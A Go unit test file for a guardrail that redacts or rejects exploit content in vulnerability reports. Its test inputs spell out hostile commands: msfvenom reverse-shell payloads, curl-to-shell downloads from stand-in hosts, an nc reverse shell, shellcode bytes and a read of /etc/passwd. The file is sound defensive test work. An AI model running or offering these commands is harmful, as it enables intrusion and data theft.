package services

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestGuardrail_Check_AcceptsCleanReport(t *testing.T) {
	g := NewGuardrail()
	report := "## flask\n\nCVE-2021-1234 (severity 9.8) allows template injection.\n" +
		"Upgrade to 2.0.1 or later. Related attack pattern: CAPEC-242 Code Injection."

	verdict := g.Check(report)

	assert.Equal(t, GuardrailAccept, verdict.Action)
	assert.Equal(t, report, verdict.Text)
}

func TestGuardrail_Check_RedactsExploitCodeBlock(t *testing.T) {
	g := NewGuardrail()
	report := "CVE-2021-1234 allows template injection. Upgrade to 2.0.1.\n\n" +
		"Proof of concept:\n```sh\nmsfvenom -p python/meterpreter/reverse_tcp LHOST=10.0.0.1\n```\n" +
		"Mitigation: sanitize template input."

	verdict := g.Check(report)

	require.Equal(t, GuardrailRedact, verdict.Action)
	assert.NotContains(t, verdict.Text, "msfvenom")
	assert.Contains(t, verdict.Text, RedactionPlaceholder)
	assert.Contains(t, verdict.Text, "Mitigation: sanitize template input.")
}

func TestGuardrail_Check_RedactsShellcode(t *testing.T) {
	g := NewGuardrail()
	report := `The payload begins \x90\x90\x90\x90\x41\x41\x41\x41\x31\xc0 as documented. ` +
		"Patch to version 3.1 to close the hole."

	verdict := g.Check(report)

	require.Equal(t, GuardrailRedact, verdict.Action)
	assert.NotContains(t, verdict.Text, `\x90\x90`)
	assert.Contains(t, verdict.Text, "Patch to version 3.1")
}

func TestGuardrail_Check_RedactsCurlPipeShell(t *testing.T) {
	g := NewGuardrail()
	report := "Attackers exploited this with curl http://evil.example/x.sh | sh on exposed hosts.\n" +
		"Block outbound traffic from build machines."

	verdict := g.Check(report)

	require.Equal(t, GuardrailRedact, verdict.Action)
	assert.NotContains(t, verdict.Text, "| sh")
	assert.Contains(t, verdict.Text, "Block outbound traffic")
}

func TestGuardrail_Check_RejectsWhenNothingSurvives(t *testing.T) {
	g := NewGuardrail()
	report := "```bash\nmsfvenom -p linux/x86/shell_reverse_tcp LHOST=1.2.3.4 -f elf\n```"

	verdict := g.Check(report)

	require.Equal(t, GuardrailReject, verdict.Action)
	assert.Contains(t, verdict.Reason, "rationale")
	assert.Empty(t, verdict.Text)
}

func TestGuardrail_Check_RedactsCommandInjection(t *testing.T) {
	g := NewGuardrail()
	report := "The parameter is concatenated unsanitized; cat /etc/passwd was observed in logs.\n" +
		"Escape shell metacharacters before invoking the subprocess."

	verdict := g.Check(report)

	require.Equal(t, GuardrailRedact, verdict.Action)
	assert.NotContains(t, verdict.Text, "/etc/passwd")
	assert.Contains(t, verdict.Text, "Escape shell metacharacters")
}

// No emitted text may still match any rule after a redact verdict.
func TestGuardrail_Check_NoBypassAfterRedaction(t *testing.T) {
	g := NewGuardrail()
	reports := []string{
		"Use msfconsole to verify. Then patch.\nSeparately: curl http://x.example/a | bash runs it.",
		"PoC:\n```\nnc -e /bin/sh 10.0.0.1 4444 payload\n```\nUpgrade now.",
		strings.Repeat(`\x41`, 12) + " observed in the crash dump. Apply the vendor fix.",
	}

	for _, report := range reports {
		verdict := g.Check(report)
		require.NotEqual(t, GuardrailAccept, verdict.Action)
		if verdict.Action == GuardrailRedact {
			second := g.Check(verdict.Text)
			assert.Equal(t, GuardrailAccept, second.Action)
		}
	}
}
